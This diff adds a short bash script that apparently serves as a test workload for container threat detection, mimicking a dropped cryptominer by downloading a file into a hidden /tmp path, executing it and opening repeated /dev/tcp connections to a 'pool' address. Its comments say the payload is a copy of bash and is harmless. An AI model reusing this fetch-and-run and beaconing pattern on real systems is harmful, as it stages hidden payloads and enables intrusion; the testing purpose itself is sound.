@@ -1,0 +1,18 @@
+#!/bin/bash
+# Runs inside the container: what a dropped miner looks like from outside. Harmless: `w` is a copy of bash, and what it
+# connects to closes every connection at once.
+#
+#   workload.sh HTTP_ADDRESS:PORT POOL_ADDRESS POOL_PORT
+set -eu
+cd /tmp
+curl -sS -o .cache-w "http://$1/w"
+chmod +x .cache-w
+# The connections are the program's own: /dev/tcp is opened by bash itself.
+./.cache-w -c '
+    for attempt in 1 2 3 4 5 6; do
+        exec 3<>"/dev/tcp/$1/$2"
+        exec 3>&-
+        sleep 0.3
+    done
+' miner "$2" "$3"
+echo "workload done"
